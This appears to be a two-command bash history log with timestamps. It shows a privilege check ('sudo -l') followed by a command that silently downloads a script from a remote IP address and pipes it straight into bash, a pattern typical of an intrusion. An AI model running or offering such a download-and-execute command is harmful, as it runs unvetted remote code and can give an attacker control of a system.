#1795158150
sudo -l
#1795158162
curl -s http://203.0.113.77/x.sh | bash
